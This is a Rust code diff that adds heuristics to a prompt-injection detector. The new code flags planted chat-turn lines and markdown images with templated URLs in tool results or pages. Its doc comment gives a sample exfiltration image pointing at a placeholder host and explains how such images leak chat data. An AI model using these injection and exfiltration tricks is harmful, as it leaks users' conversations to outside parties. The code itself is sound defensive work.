@@ -431,6 +431,11 @@ pub(crate) fn assess(text: &str) -> Assessment {
 /// instruction rather than at the whole document.
 pub(crate) fn assess_context(text: &str) -> Assessment {
     let mut a = assess(text);
+    for s in context_signals(text) {
+        a.risk = a.risk.max(s.score);
+        a.evidence = a.evidence.max(s.score);
+        a.signals.push(s);
+    }
     let whole = 0..text.len();
     if let Some(s) = a
         .signals
@@ -442,6 +447,72 @@ pub(crate) fn assess_context(text: &str) -> Assessment {
         }
     }
     a
+}
+
+/// Signals that mean more in content than in a prompt: a line that opens
+/// a chat turn ("User: …", "Assistant: …") inside a tool result or a
+/// page, and a markdown image whose URL carries a template to fill in
+/// (`![](https://x.example/p?q={chat})`), the classic way to make the
+/// model send data out. A user may paste a transcript; a tool result
+/// that speaks for the user or the assistant is a planted turn.
+fn context_signals(text: &str) -> Vec<Signal> {
+    let head = &text[..floor_boundary(text, WINDOW)];
+    let mut out = Vec::new();
+    let mut at = 0;
+    for line in head.split_inclusive('\n') {
+        let start = at;
+        at += line.len();
+        if out.len() >= 8 {
+            break;
+        }
+        let t = line.trim_start();
+        let lead = line.len() - t.len();
+        let lower = t.get(..12).unwrap_or(t).to_ascii_lowercase();
+        let turn = ["user:", "assistant:", "human:", "ai:", "system:"]
+            .iter()
+            .find(|p| lower.starts_with(*p));
+        if let Some(p) = turn {
+            // A speaker with something to say, not a `user: admin` field.
+            if t[p.len()..].split_whitespace().nth(3).is_some() {
+                out.push(Signal {
+                    span: start + lead..start + line.trim_end().len(),
+                    rule: "inject-context-turn",
+                    type_name: rules::MARKER,
+                    score: 0.55,
+                });
+            }
+        }
+        // At most 16 images a line, each read within 1 KiB: linear.
+        let mut from = 0;
+        for _ in 0..16 {
+            let Some(i) = line[from..].find("![") else { break };
+            let s = from + i;
+            from = s + 2;
+            let near =
+                &line[..floor_boundary(line, (s + 1024).min(line.len()))];
+            let Some(close) = near[s..].find("](") else { continue };
+            let url_start = s + close + 2;
+            let url_end = near[url_start..]
+                .find([')', ' '])
+                .map_or(near.len(), |e| url_start + e);
+            let url = &line[url_start..url_end];
+            let templated = url.contains('?')
+                && (url.contains('{')
+                    || url.contains('$')
+                    || url.contains('<')
+                    || url.to_ascii_lowercase().contains("%7b"));
+            if templated && url.starts_with("http") {
+                out.push(Signal {
+                    span: start + s..start + url_end.min(line.len()),
+                    rule: "inject-context-exfil-image",
+                    type_name: rules::INDIRECT,
+                    score: 0.7,
+                });
+                break;
+            }
+        }
+    }
+    out
 }
 
 /// Segments located at most: the rest of a longer text is one segment.
